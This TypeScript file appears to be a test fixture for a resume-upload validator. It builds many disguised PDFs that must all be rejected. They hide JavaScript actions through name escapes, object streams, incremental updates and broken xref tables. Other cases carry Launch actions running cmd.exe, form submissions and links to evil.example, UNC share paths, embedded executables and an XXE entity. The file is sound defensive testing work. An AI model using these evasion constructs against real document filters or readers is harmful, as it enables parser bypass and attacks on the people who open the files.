/** PDFs that two readers can read differently, or that act in a way of their own: none may be accepted. */
import { Buffer } from 'node:buffer'
import { deflateSync } from 'node:zlib'
import type { ResumeExample } from './harmless-resumes.ts'
import {
  packedPdfObjects,
  packedPdfStream,
  pdf,
  pdfOfPackedObjects,
  pdfStream,
  pdfWithUpdate,
} from './pdf.ts'
import { ENCRYPTIONS, encryptedPdf } from './pdf-encryption.ts'

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const asPdf = (name: string, content: () => Buffer): ResumeExample => ({
  name: `PDF: ${name}`,
  fileName: 'mira.pdf',
  content,
})
const withCatalog = (name: string, catalog: string, objects: readonly string[] = []) =>
  asPdf(name, () => pdf('Mira', { catalog, objects }))
const withPage = (name: string, page: string, objects: readonly string[] = []) =>
  asPdf(name, () => pdf('Mira', { page, objects }))

/** The same script, its names and numbers written in every way that readers understand. */
const spellings = [
  ['names with one escape', '/OpenAction << /S /Java#53cript /JS (app.alert\\(1\\)) >>'],
  [
    'names of nothing but escapes',
    '/OpenAction << /#53 /#4a#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert\\(1\\)) >>',
  ],
  ['an escaped key of the catalogue', `/Open#41ction ${SCRIPT}`],
  [
    'escapes in small and capital letters',
    '/OpenAction << /S /#4AavaScript /#4a#53 (app.alert\\(1\\)) >>',
  ],
  [
    'a comment between key and value',
    '/OpenAction %\n << /S% x\n/JavaScript%\r/JS (app.alert\\(1\\)) >>',
  ],
  ['no blanks at all', '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'],
  ['blanks of every sort', '/OpenAction\0<<\f/S\t/JavaScript\r\n/JS\n(app.alert\\(1\\))>>'],
  ['its text in hexadecimal', '/OpenAction << /S /JavaScript /JS <6170702E616C657274283129> >>'],
  ['its text in UTF-16', '/OpenAction << /S /JavaScript /JS <FEFF006100700070> >>'],
  ['its text in octal', '/OpenAction << /S /JavaScript /JS (\\141\\160\\160.alert\\(1\\)) >>'],
  ['the same key twice, the script first', `/OpenAction ${SCRIPT} /OpenAction [3 0 R /Fit]`],
  ['the same key twice, the script last', `/OpenAction [3 0 R /Fit] /OpenAction ${SCRIPT}`],
  [
    'two types of action',
    '/OpenAction << /S /JavaScript /S /GoTo /JS (app.alert\\(1\\)) /D [3 0 R /Fit] >>',
  ],
  ['a value too much before the key', `/OpenAction 5 ${SCRIPT}`],
].map(([name = '', catalog = '']) => withCatalog(`a script with ${name}`, catalog))

const references = ['6 0 R', '06 00 R', '+6 0 R', '6\n0\rR', '6%1 0 R\n0 R', '6\0 0\t R'].map(
  (reference) =>
    withCatalog(
      `a script behind the reference ${JSON.stringify(reference)}`,
      `/OpenAction ${reference}`,
      [SCRIPT],
    ),
)

const scriptInStream = (name: string, keys: string, data: (text: string) => string | Uint8Array) =>
  asPdf(`packed objects ${name}`, () => {
    const list = '50 0 '
    return pdf('Mira', {
      catalog: '/OpenAction 50 0 R',
      objects: [pdfStream(`${keys} /N 1 /First ${list.length}`, data(list + SCRIPT))],
    })
  })
const packedIn = (text: string) => deflateSync(Buffer.from(text, 'latin1'))
const predicted = (text: string) =>
  packedIn(text.replace(/.{1,10}/gs, (row) => `\0${row.padEnd(10)}`))

const packings = [
  scriptInStream('that are not packed', '/Type /ObjStm', (text) => text),
  scriptInStream('without a type', '/Filter /FlateDecode', packedIn),
  scriptInStream('with the short name of the filter', '/Type /ObjStm /Filter /Fl', packedIn),
  scriptInStream('with a list of one filter', '/Type /ObjStm /Filter [/FlateDecode]', packedIn),
  scriptInStream('with an escaped filter', '/Type /ObjStm /Filter /Flate#44ecode', packedIn),
  scriptInStream(
    'with a predictor',
    '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
    predicted,
  ),
  scriptInStream(
    'with a predictor of pictures',
    '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 2 /Columns 10 >>',
    packedIn,
  ),
  scriptInStream(
    'with two filters',
    '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]',
    (text) => `${packedIn(text).toString('hex')}>`,
  ),
  scriptInStream('with an unknown filter', '/Type /ObjStm /Filter /BrotliDecode', packedIn),
  scriptInStream('whose length is wrong', '/Type /ObjStm /Filter /FlateDecode /Length 3', packedIn),
  scriptInStream('whose filter stands elsewhere', '/Type /ObjStm /Filter 7 0 R', packedIn),
  asPdf('packed objects whose numbers stand elsewhere', () =>
    pdf('Mira', {
      catalog: '/OpenAction 50 0 R',
      objects: [packedPdfStream('/Type /ObjStm /N 7 0 R /First 8 0 R', `50 0 ${SCRIPT}`), '1', '5'],
    }),
  ),
  asPdf('packed objects in another order than listed', () =>
    pdfOfPackedObjects('/OpenAction 8 0 R', ['null', 'null', SCRIPT], {
      write: (pairs) => pairs.toReversed().flat().join(' '),
    }),
  ),
  asPdf('packed objects that extend others', () =>
    pdf('Mira', {
      catalog: '/OpenAction 50 0 R',
      objects: [
        packedPdfObjects([SCRIPT]),
        packedPdfStream('/Type /ObjStm /N 1 /First 5 /Extends 6 0 R', '51 0 null'),
      ],
    }),
  ),
  asPdf('a script in packed objects behind a list with zeros', () =>
    pdfOfPackedObjects('/OpenAction 8 0 R', ['null', 'null', SCRIPT], {
      write: (pairs) => pairs.map(([number, offset]) => `00${number} 000${offset}`).join('\n'),
    }),
  ),
  asPdf('a script in packed objects numbered twice', () =>
    pdfOfPackedObjects('/OpenAction 7 0 R', ['null', SCRIPT], {
      write: ([first = [0, 0], second = [0, 0]]) => `7 ${first[1]} 7 ${second[1]}`,
    }),
  ),
]

const tables = [
  asPdf('a script that an update adds', () =>
    pdfWithUpdate({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>` }),
  ),
  asPdf('a script that an update takes away', () =>
    pdfWithUpdate({ 1: '<< /Type /Catalog /Pages 2 0 R >>' }, { catalog: `/OpenAction ${SCRIPT}` }),
  ),
  asPdf('a script in an object that an update replaces', () =>
    pdfWithUpdate(
      { 6: SCRIPT },
      { catalog: '/OpenAction 6 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] },
    ),
  ),
  asPdf('a script that only the second table of a hybrid file knows', () => {
    const file = pdf('Mira', {
      catalog: '/OpenAction 50 0 R',
      objects: [packedPdfObjects([SCRIPT])],
    }).toString('latin1')
    const at = file.indexOf('xref')
    const row = Buffer.from([2, 0, 6, 0]).toString('latin1')
    const stream = `9 0 obj\n${pdfStream('/Type /XRef /Size 51 /Index [50 1] /W [1 2 1] /Root 1 0 R', row)}\nendobj\n`
    return Buffer.from(
      `${file.slice(0, at)}${stream}${file.slice(at)}`
        .replace(/trailer\n<< /, `trailer\n<< /XRefStm ${at} `)
        .replace(/startxref\n\d+/, `startxref\n${at + stream.length}`),
      'latin1',
    )
  }),
  asPdf('a script whose table is missing', () =>
    Buffer.from(
      pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` })
        .toString('latin1')
        .replace(/xref\n0.*?(?=trailer)/s, ''),
      'latin1',
    ),
  ),
  asPdf('a script whose table is wrong', () =>
    Buffer.from(
      pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` })
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n5'),
      'latin1',
    ),
  ),
  asPdf('a script in a file without a header', () =>
    Buffer.from(
      pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` })
        .toString('latin1')
        .replace('%PDF-1.4\n', ''),
      'latin1',
    ),
  ),
  asPdf('a script behind the lines of a printer', () =>
    Buffer.concat([
      Buffer.from('\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n'),
      pdf('Mira', { catalog: `/OpenAction ${SCRIPT}` }),
    ]),
  ),
  asPdf('a script behind the end', () =>
    Buffer.concat([
      pdf('Mira', { catalog: '/OpenAction 6 0 R' }),
      Buffer.from(`6 0 obj ${SCRIPT} endobj\n`),
    ]),
  ),
  asPdf('a script within a text', () =>
    pdf(`6 0 obj ${SCRIPT.replace('\\(1\\)', '')} endobj`, { catalog: '/OpenAction 6 0 R' }),
  ),
  asPdf('a script within a comment', () =>
    Buffer.from(
      pdf('Mira', { catalog: '/OpenAction 6 0 R' })
        .toString('latin1')
        .replace('xref', `% 6 0 obj ${SCRIPT} endobj\nxref`),
      'latin1',
    ),
  ),
]

/** Every place from which a reader starts an action by itself. */
const places = [
  ...['WC', 'WS', 'DS', 'WP', 'DP'].map((event) =>
    withCatalog(`a script of the document's event ${event}`, `/AA << /${event} ${SCRIPT} >>`),
  ),
  ...['O', 'C'].map((event) =>
    withPage(`a script of the page's event ${event}`, `/AA << /${event} ${SCRIPT} >>`),
  ),
  ...['E', 'X', 'D', 'U', 'Fo', 'Bl', 'PO', 'PC', 'PV', 'PI'].map((event) =>
    withPage(
      `a script of an annotation's event ${event}`,
      `/Annots [<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /${event} ${SCRIPT} >> >>]`,
    ),
  ),
  ...['K', 'F', 'V', 'C'].map((event) =>
    asPdf(`a script of a field's event ${event}`, () =>
      pdf('Mira', {
        catalog: '/AcroForm << /Fields [6 0 R] >>',
        page: '/Annots [6 0 R]',
        objects: [
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /${event} ${SCRIPT} >> >>`,
        ],
      }),
    ),
  ),
  withCatalog(
    'a script in the tree of names',
    '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>',
    [SCRIPT],
  ),
  withCatalog('a script deep in the tree of names', '/Names 6 0 R', [
    '<< /JavaScript 7 0 R >>',
    '<< /Kids [8 0 R] >>',
    `<< /Names [(a) ${SCRIPT}] >>`,
  ]),
  withCatalog('a script of a bookmark', '/Outlines << /First 6 0 R /Last 6 0 R >>', [
    `<< /Title (a) /A ${SCRIPT} >>`,
  ]),
  withPage(
    'a script of a link',
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${SCRIPT} >>]`,
  ),
  withCatalog('a script as a stream', '/OpenAction << /S /JavaScript /JS 6 0 R >>', [
    pdfStream('', 'app.alert(1)'),
  ]),
  withCatalog('a script of a form in XML', '/AcroForm << /XFA [(template) 6 0 R] >>', [
    packedPdfStream(
      '',
      '<template><event activity="docReady"><script>app.alert(1)</script></event></template>',
    ),
  ]),
  withCatalog('a script of a form in XML that is a list elsewhere', '/AcroForm << /XFA 6 0 R >>', [
    '[(template) 7 0 R]',
    pdfStream('', '<t:template><t:script>app.alert(1)</t:script></t:template>'),
  ]),
]

/** Every action that loads, sends, plays or starts something. */
const actions = [
  ['an address', '<< /S /URI /URI (https://evil.example) >>'],
  ['an address on a share', '<< /S /URI /URI (file://evil/x) >>'],
  ['a file on a share', '<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit] >>'],
  [
    'a file on a share, as a specification',
    '<< /S /GoToR /F << /Type /Filespec /UF (\\\\\\\\evil\\\\x.pdf) >> /D [0 /Fit] >>',
  ],
  ['a file within the file', '<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>'],
  ['a program', '<< /S /Launch /F (cmd.exe) >>'],
  ['a program of Windows', '<< /S /Launch /Win << /F (cmd) /P (/c calc) >> >>'],
  ['a document with a name like one', '<< /S /Launch /F (cmd.exe /c a.pdf.exe) >>'],
  ['a document on a share', '<< /S /Launch /F (\\\\\\\\evil\\\\a.pdf) >>'],
  [
    'a form to be sent',
    '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> /Fields [] >>',
  ],
  ['data to be read in', '<< /S /ImportData /F (a.fdf) >>'],
  [
    'a film',
    '<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (https://evil.example) >> >> >>',
  ],
  ['a command of a film', '<< /S /RichMediaExecute /TA 6 0 R /CMD << /C (a) >> >>'],
  ['a thread elsewhere', '<< /S /Thread /F (\\\\\\\\evil\\\\a.pdf) /D 0 >>'],
  ['a sound', '<< /S /Sound /Sound 6 0 R >>'],
  ['a command of the menu', '<< /S /Named /N /SaveAs >>'],
  [
    'a script behind other actions',
    `<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /Print /Next ${SCRIPT} >>] >>`,
  ],
].flatMap(([name = '', action = '']) => [
  withCatalog(`${name}, at once`, `/OpenAction ${action}`),
  withPage(`${name}, with its page`, `/AA << /O 6 0 R >>`, [action]),
])

const links = ['javascript:app.alert\\(1\\)', ' JavaScript:x', '\\\\\\\\evil\\\\x'].map((address) =>
  withPage(
    `a link to ${JSON.stringify(address)}`,
    `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${address}) >> >>]`,
  ),
)

const encrypted = ENCRYPTIONS.flatMap((encryption) => [
  asPdf(`a script in ${encryption}`, () =>
    encryptedPdf({
      encryption,
      catalog: '/OpenAction 6 0 R',
      objects: ['<< /S /JavaScript /JS (app.alert) >>'],
    }),
  ),
  asPdf(`a script in packed objects in ${encryption}`, () =>
    encryptedPdf({
      encryption,
      catalog: '/OpenAction 50 0 R',
      packed: ['<< /S /JavaScript /JS (app.alert) >>'],
    }),
  ),
  asPdf(`a share in ${encryption}`, () =>
    encryptedPdf({
      encryption,
      page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 6 0 R >>]',
      objects: ['<< /S /GoToR /F (//evil/x.pdf) /D [0 /Fit] >>'],
    }),
  ),
])

const attached = (name: string, fileName: string, data: string, more = '') =>
  asPdf(`an attachment, ${name}`, () =>
    pdf('Mira', {
      catalog: `/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >> ${more}`,
      objects: [
        `<< /Type /Filespec /F (${fileName}) /UF (${fileName}) /EF << /F 7 0 R >> >>`,
        packedPdfStream('/Type /EmbeddedFile', data),
      ],
    }),
  )
const attachments = [
  attached('a program', 'a.exe', 'MZ\0\0'),
  attached('a program that is called XML', 'a.xml', 'MZ\0\0'),
  attached('XML that is called a program', 'a.hta', '<a/>'),
  attached('a PDF', 'a.pdf', '%PDF-1.4'),
  attached('a page with a script', 'a.html', '<style></style><script>alert(1)</script>'),
  attached('a page with an event', 'a.html', '<style onload=alert(1)></style>'),
  attached('a page that loads a picture', 'a.html', '<img src="file://evil/x.png">'),
  attached('a style that loads a picture', 'a.css', 'li { background: url(//evil/x.png) }'),
  attached(
    'XML that is shown as a page',
    'a.xml',
    '<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script/></a>',
  ),
  attached(
    'XML with a style from elsewhere',
    'a.xml',
    '<?xml-stylesheet href="//evil/x.xsl"?><a/>',
  ),
  attached(
    'XML with an entity',
    'a.xml',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file://evil/x">]><a>&b;</a>',
  ),
  attached(
    'a drawing with a script',
    'a.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
  ),
  asPdf('an attachment at a place of the page', () =>
    pdf('Mira', {
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]',
      objects: [
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        pdfStream('/Type /EmbeddedFile', 'MZ'),
      ],
    }),
  ),
  asPdf('a text at a place of the page', () =>
    pdf('Mira', {
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]',
      objects: [
        '<< /Type /Filespec /F (a.xml) /EF << /F 7 0 R >> >>',
        pdfStream('/Type /EmbeddedFile', '<a/>'),
      ],
    }),
  ),
  attached('a text', 'a.txt', 'Mira'),
  asPdf('an attachment under escaped names', () =>
    pdf('Mira', {
      catalog: '/Names << /Embedded#46iles << /Names [(a) 6 0 R] >> >>',
      objects: ['<< /F (a.exe) /#45#46 << /F 7 0 R >> >>', pdfStream('', 'MZ')],
    }),
  ),
]

const annotations = [
  ...['RichMedia', 'Movie', 'Sound'].map((subtype) =>
    withPage(
      `an annotation of the sort ${subtype}`,
      `/Annots [<< /Type /Annot /Subtype /${subtype} /Rect [0 0 9 9] >>]`,
    ),
  ),
  asPdf('a scene with a script', () =>
    pdf('Mira', {
      page: '/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>]',
      objects: [
        pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x'),
        pdfStream('', 'app.alert(1)'),
      ],
    }),
  ),
  asPdf('a stream at an address', () =>
    pdf('Mira', { objects: [pdfStream('/#46 << /FS /URL /F (https://evil.example/x) >>', '')] }),
  ),
]

export const disguisedPdfs: readonly ResumeExample[] = [
  ...spellings,
  ...references,
  ...packings,
  ...tables,
  ...places,
  ...actions,
  ...links,
  ...encrypted,
  ...attachments,
  ...annotations,
]
